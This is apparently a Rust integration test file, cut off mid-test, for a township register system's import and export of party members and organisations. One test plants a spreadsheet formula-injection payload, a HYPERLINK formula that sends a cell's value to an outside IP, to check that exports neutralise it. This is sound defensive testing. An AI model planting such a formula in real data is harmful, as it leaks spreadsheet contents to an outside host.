//! Import and export of the engine's registers through their endpoints (R-import), on the
//! demo township's party members and organisations: exports hold exactly what the list
//! shows the user (filters, data scope) and need the export permission; a template filled
//! in imports with history and audit; a file with a bad row names it and writes nothing; a
//! commit the database refuses writes nothing; GeoJSON reads back.

use std::time::Duration;

use axum::Router;
use axum::body::Body;
use diesel::sql_types::{BigInt, Integer, Text};
use diesel_async::RunQueryDsl;
use http::{Request, StatusCode, header};
use shared::sql::Sql;

use crate::harness::TestDb;
use crate::http::{HOST, get, login, router, send, send_for_bytes};

const MEMBERS: &str = "/api/engine/party/members";

/// A file uploaded as a browser's form does (`multipart/form-data`, field `file`).
fn upload(path: &str, cookie: &str, file_name: &str, bytes: &[u8]) -> Request<Body> {
    let boundary = "tongguan-test-boundary";
    let mut body = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{file_name}\"\r\n\
         Content-Type: application/octet-stream\r\n\r\n"
    )
    .into_bytes();
    body.extend_from_slice(bytes);
    body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    post(path, cookie)
        .header(header::CONTENT_TYPE, format!("multipart/form-data; boundary={boundary}"))
        .body(Body::from(body))
        .expect("request")
}

fn post(path: &str, cookie: &str) -> http::request::Builder {
    Request::post(path)
        .header(header::HOST, HOST)
        .header(header::ORIGIN, format!("http://{HOST}"))
        .header(header::COOKIE, cookie)
}

fn json(body: &str) -> serde_json::Value {
    serde_json::from_str(body).unwrap_or_else(|_| panic!("JSON: {body}"))
}

/// The rows of a CSV export (its BOM checked and dropped), header first.
fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(bytes).expect("UTF-8");
    let text = text.strip_prefix('\u{feff}').expect("a BOM, for Excel");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|record| record.expect("a record").iter().map(str::to_owned).collect())
        .collect()
}

/// The first sheet of an Excel file, as text.
fn xlsx_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    use calamine::Reader;
    let mut book: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(bytes.to_vec())).expect("xlsx");
    let range = book.worksheet_range_at(0).expect("a sheet").expect("readable");
    range.rows().map(|row| row.iter().map(|cell| cell.to_string()).collect()).collect()
}

async fn count(db: &TestDb, sql: Sql) -> i64 {
    #[derive(diesel::QueryableByName)]
    struct N {
        #[diesel(sql_type = BigInt)]
        n: i64,
    }
    let n: N = sql.query().get_result(&mut *db.conn().await).await.expect("count");
    n.n
}

async fn execute(db: &TestDb, sql: &str) {
    diesel::sql_query(sql).execute(&mut *db.conn().await).await.expect(sql);
}

#[tokio::test]
async fn exports_hold_what_the_list_shows_with_its_filter_and_scope() {
    let db = TestDb::new().await;
    let router = router(&db);
    let staff = login(&router, "staff").await;

    // Retired members: a filter of the list page.
    let (status, headers, body) = send_for_bytes(
        &router,
        get(&format!("{MEMBERS}/export.csv?dues_basis=retired&sort=name&dir=asc"), Some(&staff)),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{}", String::from_utf8_lossy(&body));
    assert!(headers[header::CONTENT_TYPE].to_str().expect("type").starts_with("text/csv"));
    assert!(headers[header::CONTENT_DISPOSITION].to_str().expect("name").contains("filename*=UTF-8''"));
    let rows = csv_rows(&body);
    let header = &rows[0];
    assert_eq!(&header[..3], &["所属地", "姓名", "性别"]);
    let basis = header.iter().position(|title| title == "党费计缴类别").expect("a column per field");
    let expected = count(
        &db,
        Sql::new("SELECT count(*) AS n FROM reg.party_members WHERE deleted_at IS NULL AND dues_basis = 'retired'"),
    )
    .await;
    let all = count(&db, Sql::new("SELECT count(*) AS n FROM reg.party_members WHERE deleted_at IS NULL")).await;
    assert!(expected > 0 && expected < all);
    assert_eq!(rows.len() as i64 - 1, expected);
    assert!(rows[1..].iter().all(|row| row[basis] == "离退休"), "codes as their labels");
    let names: Vec<&String> = rows[1..].iter().map(|row| &row[1]).collect();
    assert!(names.windows(2).all(|pair| pair[0] <= pair[1]), "the list's sort");
    let organisation = header.iter().position(|title| title == "所在党组织").expect("organisation");
    assert!(
        rows[1..].iter().all(|row| !row[organisation].is_empty() && row[organisation].parse::<i64>().is_err()),
        "references by name"
    );

    // The same as Excel.
    let (status, _, body) = send_for_bytes(
        &router,
        get(&format!("{MEMBERS}/export.xlsx?dues_basis=retired&sort=name&dir=asc"), Some(&staff)),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let sheet = xlsx_rows(&body);
    assert_eq!(sheet.len() as i64 - 1, expected);
    assert_eq!(sheet[0], *header);

    // A village worker granted the export sees their village's members only.
    execute(&db, "UPDATE roles SET permissions = array_append(permissions, 'm.party.members.export') WHERE code = 'village_staff'").await;
    let village = login(&router, "village").await;
    let (status, _, body) = send_for_bytes(&router, get(&format!("{MEMBERS}/export.csv"), Some(&village))).await;
    assert_eq!(status, StatusCode::OK);
    let rows = csv_rows(&body);
    #[derive(diesel::QueryableByName)]
    struct Village {
        #[diesel(sql_type = Integer)]
        id: i32,
        #[diesel(sql_type = Text)]
        name: String,
    }
    let home: Village = diesel::sql_query(
        "SELECT v.id, v.name FROM users u JOIN villages v ON v.id = u.village_id WHERE u.username = 'village'",
    )
    .get_result(&mut *db.conn().await)
    .await
    .expect("the worker's village");
    let theirs = count(
        &db,
        Sql::new("SELECT count(*) AS n FROM reg.party_members WHERE deleted_at IS NULL AND village_id = ")
            .bind(home.id),
    )
    .await;
    assert!(theirs > 0 && theirs < all);
    assert_eq!(rows.len() as i64 - 1, theirs, "no row outside the scope");
    assert!(rows[1..].iter().all(|row| row[0].starts_with(&home.name)));

    // A filter the list does not have is refused, not ignored; an unknown register is 404.
    let (status, _, body) = send(&router, get(&format!("{MEMBERS}/export.csv?colour=red"), Some(&staff))).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert!(body.contains("field.unknown"), "{body}");
    let (status, _, _) = send(&router, get("/api/engine/party/nothing/export.csv", Some(&staff))).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let (status, _, _) = send(&router, get(&format!("{MEMBERS}/export.pdf"), Some(&staff))).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    // GeoJSON needs a geometry field, which members have not.
    let (status, _, body) = send(&router, get(&format!("{MEMBERS}/export.geojson"), Some(&staff))).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(body.contains("export.no_geometry"), "{body}");
    db.finish().await;
}

/// A name a spreadsheet would run as a formula (OWASP's CSV injection) goes out in CSV behind
/// an apostrophe, which spreadsheets show as text, and in Excel as a string cell.
#[tokio::test]
async fn text_that_looks_like_a_formula_goes_out_as_text() {
    const FORMULA: &str = "=HYPERLINK(\"http://203.0.113.7/?\"&A1,\"点此\")";
    let db = TestDb::new().await;
    diesel::sql_query("UPDATE reg.party_members SET name = $1 WHERE id = (SELECT min(id) FROM reg.party_members)")
        .bind::<Text, _>(FORMULA)
        .execute(&mut *db.conn().await)
        .await
        .expect("a name like a formula");
    let router = router(&db);
    let staff = login(&router, "staff").await;
    let (status, _, body) = send_for_bytes(&router, get(&format!("{MEMBERS}/export.csv"), Some(&staff))).await;
    assert_eq!(status, StatusCode::OK);
    let names: Vec<String> = csv_rows(&body).into_iter().skip(1).map(|row| row[1].clone()).collect();
    assert!(names.contains(&format!("'{FORMULA}")), "{:?}", &names[..3]);
    assert!(!names.iter().any(|name| name == FORMULA));
    let (status, _, body) = send_for_bytes(&router, get(&format!("{MEMBERS}/export.xlsx"), Some(&staff))).await;
    assert_eq!(status, StatusCode::OK);
    assert!(xlsx_rows(&body).iter().any(|row| row[1] == FORMULA), "a string cell holds the text as it is");
    db.finish().await;
}

#[tokio::test]
async fn without_the_permission_there_is_no_export_template_or_import() {
    let db = TestDb::new().await;
    let router = router(&db);
    // The village worker may view and create members, not export or import them.
    let village = login(&router, "village").await;
    for path in ["export.csv", "export.xlsx", "template.csv"] {
        let (status, _, _) = send(&router, get(&format!("{MEMBERS}/{path}"), Some(&village))).await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{path}");
    }
    let (status, _, _) = send(&router, upload(&format!("{MEMBERS}/import"), &village, "a.csv", b"x")).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    // Nor anyone without a session.
    let (status, _, _) = send(&router, get(&format!("{MEMBERS}/export.csv"), None)).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    db.finish().await;
}

/// What a new member's row needs from the demo township: a grid and its village, an
/// organisation, all of the leader's township.
struct Place {
    village: String,
    grid: String,
    organisation: String,
}

async fn place(db: &TestDb) -> Place {
    #[derive(diesel::QueryableByName)]
    struct Row {
        #[diesel(sql_type = Text)]
        village: String,
        #[diesel(sql_type = Text)]
        grid: String,
        #[diesel(sql_type = Text)]
        organisation: String,
    }
    let row: Row = diesel::sql_query(
        "SELECT v.name AS village, g.name AS grid, \
                (SELECT o.name FROM reg.party_organisations o WHERE o.deleted_at IS NULL ORDER BY o.id LIMIT 1) AS organisation \
         FROM grids g JOIN villages v ON v.id = g.village_id ORDER BY g.id LIMIT 1",
    )
    .get_result(&mut *db.conn().await)
    .await
    .expect("a place");
    Place { village: row.village, grid: row.grid, organisation: row.organisation }
}

/// A valid ID number (GB 11643) from a serial number.
fn id_number(serial: u32) -> String {
    // Born 1901-01-01: no demo resident is that old.
    let first17 = format!("32058119010101{:03}", serial % 1000);
    let check = shared::codes::id_number::check_digit(&first17).expect("17 digits");
    format!("{first17}{check}")
}

/// A member's row in the template's columns (by key).
fn member(keys: &[String], place: &Place, name: &str, id_number: &str, gender: &str) -> Vec<String> {
    keys.iter()
        .map(|key| {
            match key.as_str() {
                "village_id" => place.village.as_str(),
                "grid_id" => place.grid.as_str(),
                "name" => name,
                "gender" => gender,
                "id_number" => id_number,
                "political_status" => "中共党员",
                "organisation" => place.organisation.as_str(),
                "joined_on" => "2020/07/01",
                "floating" => "否",
                "dues_basis" => "农民",
                "monthly_income" => "3,200.50",
                _ => "",
            }
            .to_owned()
        })
        .collect()
}

fn csv_file(rows: &[Vec<String>]) -> Vec<u8> {
    let mut writer = csv::Writer::from_writer(Vec::new());
    for row in rows {
        writer.write_record(row).expect("row");
    }
    writer.into_inner().expect("csv")
}

/// Waits for a committed import to end; its progress.
async fn finished(router: &Router, cookie: &str, id: i64) -> serde_json::Value {
    for _ in 0..300 {
        let (status, _, body) = send(router, get(&format!("/api/engine/imports/{id}"), Some(cookie))).await;
        assert_eq!(status, StatusCode::OK, "{body}");
        let progress = json(&body);
        if progress["status"] == "done" || progress["status"] == "failed" {
            return progress;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("the import did not end within 30 s");
}

async fn members_with(db: &TestDb, id_numbers: &[String]) -> i64 {
    count(
        db,
        Sql::new("SELECT count(*) AS n FROM reg.party_members WHERE deleted_at IS NULL AND id_number = ANY (")
            .bind(id_numbers.to_vec())
            .push(")"),
    )
    .await
}

#[tokio::test]
async fn a_filled_in_template_imports_with_history_and_audit() {
    let db = TestDb::new().await;
    let router = router(&db);
    let leader = login(&router, "leader").await;
    let place = place(&db).await;

    // The CSV template: headers (required ones marked), then the keys.
    let (status, _, body) = send_for_bytes(&router, get(&format!("{MEMBERS}/template.csv"), Some(&leader))).await;
    assert_eq!(status, StatusCode::OK);
    let template = csv_rows(&body);
    assert_eq!(template.len(), 2);
    assert!(template[0].contains(&"姓名*".to_owned()) && template[0].contains(&"手机号码".to_owned()));
    assert!(template[1].contains(&"id_number".to_owned()) && template[1].contains(&"grid_id".to_owned()));
    let numbers = vec![id_number(101), id_number(102)];
    let mut file = template.clone();
    file.push(member(&template[1], &place, "钱一", &numbers[0], "男"));
    file.push(member(&template[1], &place, "钱二", &numbers[1], "2"));
    let (status, _, body) =
        send(&router, upload(&format!("{MEMBERS}/import"), &leader, "党员.csv", &csv_file(&file))).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let preview = json(&body);
    assert_eq!((preview["total"].as_u64(), preview["good"].as_u64()), (Some(2), Some(2)), "{body}");
    assert_eq!(preview["errors"], serde_json::json!([]));
    assert_eq!(members_with(&db, &numbers).await, 0, "a preview writes nothing");

    let id = preview["import_id"].as_i64().expect("an id");
    let (status, _, body) =
        send(&router, post(&format!("/api/engine/imports/{id}/commit"), &leader).body(Body::empty()).expect("request"))
            .await;
    assert_eq!(status, StatusCode::ACCEPTED, "{body}");
    let progress = finished(&router, &leader, id).await;
    assert_eq!(progress["status"], "done", "{progress}");
    assert_eq!(progress["done"], 2);
    assert_eq!(members_with(&db, &numbers).await, 2);
    // Each record has its first version in the history, by the leader, and its audit entry.
    let versions = count(
        &db,
        Sql::new(
            "SELECT count(*) AS n FROM record_history h JOIN reg.party_members m ON m.id = h.record_id \
             JOIN users u ON u.id = h.actor_id WHERE h.register = 'party.members' AND h.operation = 'create' \
             AND u.username = 'leader' AND m.id_number = ANY (",
        )
        .bind(numbers.clone())
        .push(")"),
    )
    .await;
    assert_eq!(versions, 2);
    let audited = count(
        &db,
        Sql::new(
            "SELECT count(*) AS n FROM audit_log a JOIN reg.party_members m ON a.target = 'party.members#' || m.id \
             WHERE a.action = 'record.create' AND m.id_number = ANY (",
        )
        .bind(numbers.clone())
        .push(")"),
    )
    .await;
    assert_eq!(audited, 2);
    let verified =
        shared::audit::service::verify(&mut *db.conn().await, &db.user("auditor").await).await.expect("verify");
    assert_eq!(verified.broken_at, None, "the audit chain holds");
    // A second commit of the same file is refused.
    let (status, _, body) =
        send(&router, post(&format!("/api/engine/imports/{id}/commit"), &leader).body(Body::empty()).expect("request"))
            .await;
    assert_eq!(status, StatusCode::CONFLICT, "{body}");

    // The Excel template: the same columns, the keys in a hidden row, notes on a second sheet.
    let (status, _, body) = send_for_bytes(&router, get(&format!("{MEMBERS}/template.xlsx"), Some(&leader))).await;
    assert_eq!(status, StatusCode::OK);
    let sheet = xlsx_rows(&body);
    assert_eq!(sheet[0], template[0]);
    assert_eq!(sheet[1], template[1]);
    {
        use calamine::Reader;
        let book: calamine::Xlsx<_> =
            calamine::open_workbook_from_rs(std::io::Cursor::new(body.clone())).expect("xlsx");
        assert_eq!(book.sheet_names().get(1).map(String::as_str), Some("说明"));
    }
    // Filled in Excel, imported the same way.
    let more = vec![id_number(103)];
    let mut book = rust_xlsxwriter::Workbook::new();
    let out = book.add_worksheet();
    let rows = [template[0].clone(), template[1].clone(), member(&template[1], &place, "钱三", &more[0], "女")];
    for (r, row) in rows.iter().enumerate() {
        for (c, cell) in row.iter().enumerate() {
            out.write_string(r as u32, c as u16, cell).expect("cell");
        }
    }
    let bytes = book.save_to_buffer().expect("xlsx");
    let (status, _, body) = send(&router, upload(&format!("{MEMBERS}/import"), &leader, "党员.xlsx", &bytes)).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let preview = json(&body);
    assert_eq!(preview["good"], 1, "{body}");
    let id = preview["import_id"].as_i64().expect("an id");
    send(&router, post(&format!("/api/engine/imports/{id}/commit"), &leader).body(Body::empty()).expect("request"))
        .await;
    assert_eq!(finished(&router, &leader, id).await["status"], "done");
    assert_eq!(members_with(&db, &more).await, 1);
    db.finish().await;
}

#[tokio::test]
async fn a_bad_row_is_named_and_nothing_is_written() {
    let db = TestDb::new().await;
    let router = router(&db);
    let leader = login(&router, "leader").await;
    let place = place(&db).await;
    let (_, _, body) = send_for_bytes(&router, get(&format!("{MEMBERS}/template.csv"), Some(&leader))).await;
    let template = csv_rows(&body);
    let numbers = vec![id_number(201), id_number(202), id_number(203)];
    let mut file = template.clone();
    file.push(member(&template[1], &place, "孙一", &numbers[0], "男"));
    // Row 4 of the file: a gender that is no choice, and the first row's ID number again.
    file.push(member(&template[1], &place, "孙二", &numbers[0], "未知"));
    file.push(member(&template[1], &place, "孙三", &numbers[2], "女"));
    let (status, _, body) =
        send(&router, upload(&format!("{MEMBERS}/import"), &leader, "党员.csv", &csv_file(&file))).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let preview = json(&body);
    assert_eq!((preview["total"].as_u64(), preview["good"].as_u64()), (Some(3), Some(2)), "{body}");
    let mut errors: Vec<(u64, String, String)> = preview["errors"]
        .as_array()
        .expect("errors")
        .iter()
        .map(|e| {
            (
                e["row"].as_u64().expect("row"),
                e["field"].as_str().expect("field").to_owned(),
                e["code"].as_str().expect("code").to_owned(),
            )
        })
        .collect();
    errors.sort();
    assert_eq!(
        errors,
        vec![
            (4, "公民身份号码".to_owned(), "import.duplicate_in_file".to_owned()),
            (4, "性别".to_owned(), "field.not_a_choice".to_owned()),
        ]
    );
    let id = preview["import_id"].as_i64().expect("an id");
    let (status, _, body) =
        send(&router, post(&format!("/api/engine/imports/{id}/commit"), &leader).body(Body::empty()).expect("request"))
            .await;
    assert_eq!(status, StatusCode::CONFLICT, "{body}");
    assert!(body.contains("import.has_errors"), "{body}");
    assert_eq!(members_with(&db, &numbers).await, 0);

    // Files that are not what they say, or not one of ours.
    let (status, _, body) =
        send(&router, upload(&format!("{MEMBERS}/import"), &leader, "党员.xlsx", b"not a zip")).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert!(body.contains("import.unreadable"), "{body}");
    let (status, _, body) = send(&router, upload(&format!("{MEMBERS}/import"), &leader, "党员.pdf", b"%PDF")).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(body.contains("import.format"), "{body}");
    let (_, _, body) =
        send(&router, upload(&format!("{MEMBERS}/import"), &leader, "x.csv", "颜色\n红\n".as_bytes())).await;
    let preview = json(&body);
    assert_eq!(preview["good"], 0);
    assert!(
        preview["errors"]
            .as_array()
            .expect("errors")
            .iter()
            .any(|e| e["row"] == 1 && e["field"] == "颜色" && e["code"] == "import.column_unknown"),
        "{body}"
    );
    let too_large = vec![b'a'; shared::engine::transfer::MAX_FILE_BYTES + 1];
    let (status, _, _) = send(&router, upload(&format!("{MEMBERS}/import"), &leader, "big.csv", &too_large)).await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);
    db.finish().await;
}

#[tokio::test]
async fn a_commit_the_database_refuses_writes_nothing() {
    let db = TestDb::new().await;
    let router = router(&db);
    let leader = login(&router, "leader").await;
    let place = place(&db).await;
    let (_, _, body) = send_for_bytes(&router, get(&format!("{MEMBERS}/template.csv"), Some(&leader))).await;
    let template = csv_rows(&body);
    let preview_of = async |names: &[&str], numbers: &[String]| {
        let mut file = template.clone();
        for (name, number) in names.iter().zip(numbers) {
            file.push(member(&template[1], &place, name, number, "男"));
        }
        let (status, _, body) =
            send(&router, upload(&format!("{MEMBERS}/import"), &leader, "党员.csv", &csv_file(&file))).await;
        assert_eq!(status, StatusCode::OK, "{body}");
        let preview = json(&body);
        assert_eq!(preview["good"].as_u64(), Some(names.len() as u64), "{body}");
        preview["import_id"].as_i64().expect("an id")
    };
    let commit = async |id: i64| {
        let (status, _, _) = send(
            &router,
            post(&format!("/api/engine/imports/{id}/commit"), &leader).body(Body::empty()).expect("request"),
        )
        .await;
        assert_eq!(status, StatusCode::ACCEPTED);
        finished(&router, &leader, id).await
    };

    // The database refuses the last of 600 rows (past the first batch of 500, already
    // written in the transaction): the whole file is rolled back.
    let numbers: Vec<String> = (0..600).map(|i| id_number(300 + i)).collect();
    let mut names: Vec<String> = (0..600).map(|i| format!("周{i}")).collect();
    names[599] = "拒收".to_owned();
    let names: Vec<&str> = names.iter().map(String::as_str).collect();
    let id = preview_of(&names, &numbers).await;
    execute(&db, "ALTER TABLE reg.party_members ADD CONSTRAINT test_refused CHECK (name <> '拒收')").await;
    let history_before = count(&db, Sql::new("SELECT count(*) AS n FROM record_history")).await;
    let progress = commit(id).await;
    assert_eq!(progress["status"], "failed", "{progress}");
    assert_eq!(progress["errors"][0]["code"], "import.refused", "{progress}");
    assert_eq!(members_with(&db, &numbers).await, 0);
    assert_eq!(count(&db, Sql::new("SELECT count(*) AS n FROM record_history")).await, history_before);
    execute(&db, "ALTER TABLE reg.party_members DROP CONSTRAINT test_refused").await;

    // A unique value taken between the preview and the commit: the check at the commit
    // names the row, and nothing is written.
    let numbers = vec![id_number(901), id_number(902)];
    let id = preview_of(&["吴一", "吴二"], &numbers).await;
    let mut other = template.clone();
    other.push(member(&template[1], &place, "抢先", &numbers[1], "女"));
    let (_, _, body) =
        send(&router, upload(&format!("{MEMBERS}/import"), &leader, "抢先.csv", &csv_file(&other))).await;
    let first = json(&body)["import_id"].as_i64().expect("an id");
    assert_eq!(commit(first).await["status"], "done");
    let progress = commit(id).await;
    assert_eq!(progress["status"], "failed", "{progress}");
    assert_eq!(progress["errors"][0]["row"], 4, "{progress}");
    assert_eq!(progress["errors"][0]["code"], "field.taken", "{progress}");
    assert_eq!(members_with(&db, &numbers).await, 1, "only the other file's record");
    db.finish().await;
}

#[tokio::test]
async fn a_geojson_export_parses_back_and_imports() {
    let db = TestDb::new().await;
    let router = router(&db);
    let leader = login(&router, "leader").await;
    let (status, headers, body) =
        send(&router, get("/api/engine/party/organisations/export.geojson", Some(&leader))).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(headers[header::CONTENT_TYPE], "application/geo+json");
    let collection = json(&body);
    assert_eq!(collection["type"], "FeatureCollection");
    let features = collection["features"].as_array().expect("features");
    let organisations =
        count(&db, Sql::new("SELECT count(*) AS n FROM reg.party_organisations WHERE deleted_at IS NULL")).await;
    assert_eq!(features.len() as i64, organisations);
    let located = features.iter().filter(|f| f["geometry"]["type"] == "Point").count() as i64;
    let with_location = count(
        &db,
        Sql::new("SELECT count(*) AS n FROM reg.party_organisations WHERE deleted_at IS NULL AND location IS NOT NULL"),
    )
    .await;
    assert_eq!(located, with_location);
    assert!(features.iter().all(|f| f["properties"]["组织名称"].is_string() && f["properties"].get("位置").is_none()));

    // Read back as new organisations of the same villages (renamed: names are unique).
    let renamed: Vec<serde_json::Value> = features
        .iter()
        .filter(|f| f["properties"]["所属地"].as_str().is_some_and(|place| !place.is_empty()))
        .take(5)
        .map(|f| {
            let mut f = f.clone();
            let name = format!("{}（新）", f["properties"]["组织名称"].as_str().expect("a name"));
            f["properties"]["组织名称"] = serde_json::Value::from(name);
            f
        })
        .collect();
    assert_eq!(renamed.len(), 5);
    let file = serde_json::json!({"type": "FeatureCollection", "features": renamed}).to_string();
    let (status, _, body) =
        send(&router, upload("/api/engine/party/organisations/import", &leader, "组织.geojson", file.as_bytes())).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let preview = json(&body);
    assert_eq!(preview["good"], 5, "{body}");
    let id = preview["import_id"].as_i64().expect("an id");
    send(&router, post(&format!("/api/engine/imports/{id}/commit"), &leader).body(Body::empty()).expect("request"))
        .await;
    assert_eq!(finished(&router, &leader, id).await["status"], "done");
    let renamed =
        count(&db, Sql::new("SELECT count(*) AS n FROM reg.party_organisations WHERE name LIKE '%（新）'")).await;
    assert_eq!(renamed, 5);
    db.finish().await;
}

/// The benchmark of an import of 100,000 members (`make bench-import`: `cargo test -p server --test it --
/// --ignored import_of_100000_members --nocapture`); its figure is in docs/benchmarks.md.
#[tokio::test]
#[ignore = "a benchmark, run by hand"]
async fn import_of_100000_members() {
    let db = TestDb::new().await;
    let router = router(&db);
    let leader = login(&router, "leader").await;
    let place = place(&db).await;
    let (_, _, body) = send_for_bytes(&router, get(&format!("{MEMBERS}/template.csv"), Some(&leader))).await;
    let template = csv_rows(&body);
    let mut file = template.clone();
    for i in 0..100_000u32 {
        // Distinct ID numbers: the serial in the birth date's day of the year and the sequence.
        let day =
            chrono::NaiveDate::from_ymd_opt(1960, 1, 1).expect("date") + chrono::Duration::days(i64::from(i / 1000));
        let first17 = format!("320581{}{:03}", day.format("%Y%m%d"), i % 1000);
        let number = format!("{first17}{}", shared::codes::id_number::check_digit(&first17).expect("digits"));
        file.push(member(&template[1], &place, &format!("测{i}"), &number, if i % 2 == 0 { "男" } else { "女" }));
    }
    let bytes = csv_file(&file);
    let started = std::time::Instant::now();
    let (status, _, body) = send(&router, upload(&format!("{MEMBERS}/import"), &leader, "十万.csv", &bytes)).await;
    assert_eq!(status, StatusCode::OK);
    let preview = json(&body);
    let checked = started.elapsed();
    assert_eq!(preview["good"], 100_000, "{}", &body[..body.len().min(2000)]);
    let id = preview["import_id"].as_i64().expect("an id");
    let started = std::time::Instant::now();
    send(&router, post(&format!("/api/engine/imports/{id}/commit"), &leader).body(Body::empty()).expect("request"))
        .await;
    let mut progress = serde_json::Value::Null;
    for _ in 0..1200 {
        let (_, _, body) = send(&router, get(&format!("/api/engine/imports/{id}"), Some(&leader))).await;
        progress = json(&body);
        if progress["status"] != "running" {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let written = started.elapsed();
    assert_eq!(progress["status"], "done", "{progress}");
    println!(
        "import of 100,000 members: file {} KB, preview {:.1} s, commit {:.1} s, total {:.1} s",
        bytes.len() / 1024,
        checked.as_secs_f64(),
        written.as_secs_f64(),
        (checked + written).as_secs_f64()
    );
    db.finish().await;
}

/// The import page's plain forms (no JavaScript needed): an upload answers with a redirect to
/// the import's page, or back to the upload with the reason; a commit with a redirect to the
/// import's page, whose progress the page then shows.
#[tokio::test]
async fn the_import_pages_forms_are_answered_with_pages() {
    let db = TestDb::new().await;
    let router = router(&db);
    let leader = login(&router, "leader").await;
    let place = place(&db).await;
    let as_page = |request: Request<Body>| {
        let (mut parts, body) = request.into_parts();
        parts.headers.insert(header::ACCEPT, "text/html,application/xhtml+xml".parse().expect("accept"));
        Request::from_parts(parts, body)
    };

    // A file of another kind: back to the upload, with the reason.
    let (status, headers, _) =
        send(&router, as_page(upload(&format!("{MEMBERS}/import"), &leader, "a.pdf", b"%PDF"))).await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    assert_eq!(headers[header::LOCATION], "/m/party/members/import?error=import.format");

    // A clean file: to its page; the commit: to the same page, and the import ends done.
    let (_, _, body) = send_for_bytes(&router, get(&format!("{MEMBERS}/template.csv"), Some(&leader))).await;
    let template = csv_rows(&body);
    let numbers = vec![id_number(301)];
    let mut file = template.clone();
    file.push(member(&template[1], &place, "孙页", &numbers[0], "女"));
    let (status, headers, _) =
        send(&router, as_page(upload(&format!("{MEMBERS}/import"), &leader, "members.csv", &csv_file(&file)))).await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let location = headers[header::LOCATION].to_str().expect("text").to_owned();
    let id: i64 = location.strip_prefix("/m/party/members/import/").expect("the import's page").parse().expect("an id");
    let (status, headers, _) = send(
        &router,
        as_page(post(&format!("/api/engine/imports/{id}/commit"), &leader).body(Body::empty()).expect("request")),
    )
    .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    assert_eq!(headers[header::LOCATION].to_str().expect("text"), location);
    assert_eq!(finished(&router, &leader, id).await["status"], "done");
    assert_eq!(members_with(&db, &numbers).await, 1);
    // Committed twice: back to the upload, with why.
    let (status, headers, _) = send(
        &router,
        as_page(post(&format!("/api/engine/imports/{id}/commit"), &leader).body(Body::empty()).expect("request")),
    )
    .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    assert_eq!(headers[header::LOCATION], "/m/party/members/import?error=import.not_pending");
    assert_eq!(members_with(&db, &numbers).await, 1);

    // The page itself renders the import (server-side, as without JavaScript).
    let (status, _, page) = send(&router, get(&location, Some(&leader))).await;
    assert_eq!(status, StatusCode::OK);
    assert!(page.contains("data-testid=\"import-done\""), "the done page");
    drop(router);
    db.finish().await;
}

/// Adds a custom field to the party members as the system administrator does.
async fn add_member_field(db: &TestDb, key: &str, kind: &str, labels: (&str, &str), options: &str, required: bool) {
    use shared::engine::custom::CustomFieldForm;
    let members = shared::modules::register("party", "members").expect("declared");
    let form = CustomFieldForm {
        key: key.into(),
        kind: kind.into(),
        label_zh: labels.0.into(),
        label_en: labels.1.into(),
        options: options.into(),
        required: required.then(|| "on".to_owned()),
        ..CustomFieldForm::default()
    };
    let sysadmin = db.user("sysadmin").await;
    shared::engine::service::add_custom_field(&mut *db.conn().await, &sysadmin, members, &form).await.expect("added");
}

#[tokio::test]
async fn custom_fields_are_template_columns_imported_and_exported() {
    let db = TestDb::new().await;
    let router = router(&db);
    let leader = login(&router, "leader").await;
    let place = place(&db).await;
    let (_, _, body) = send_for_bytes(&router, get(&format!("{MEMBERS}/template.csv"), Some(&leader))).await;
    let before = csv_rows(&body);
    add_member_field(&db, "pledge", "choice", ("承诺等级", "Pledge"), "甲\n乙", true).await;
    add_member_field(&db, "hours", "integer", ("服务时长", "Hours"), "", false).await;
    add_member_field(&db, "volunteer", "boolean", ("志愿者", "Volunteer"), "", false).await;

    // The template gains the custom columns, labelled in the user's language, keyed `extra.*`.
    let (_, _, body) = send_for_bytes(&router, get(&format!("{MEMBERS}/template.csv"), Some(&leader))).await;
    let template = csv_rows(&body);
    assert_eq!(template[0][before[0].len()..], ["承诺等级*", "服务时长", "志愿者"]);
    assert_eq!(template[1][before[1].len()..], ["extra.pledge", "extra.hours", "extra.volunteer"]);
    let english = format!("{leader}; tg_lang=en");
    let (_, _, body) = send_for_bytes(&router, get(&format!("{MEMBERS}/template.csv"), Some(&english))).await;
    assert!(csv_rows(&body)[0].contains(&"Pledge*".to_owned()), "the English template");

    // A file from before the field was added lacks its column: said before any row.
    let numbers = vec![id_number(601), id_number(602)];
    let old = [before[0].clone(), before[1].clone(), member(&before[1], &place, "周一", &numbers[0], "男")];
    let (_, _, body) = send(&router, upload(&format!("{MEMBERS}/import"), &leader, "党员.csv", &csv_file(&old))).await;
    let preview = json(&body);
    assert_eq!(preview["good"], 0, "{body}");
    assert!(
        preview["errors"]
            .as_array()
            .expect("errors")
            .iter()
            .any(|e| e["field"] == "承诺等级" && e["code"] == "import.column_missing"),
        "{body}"
    );

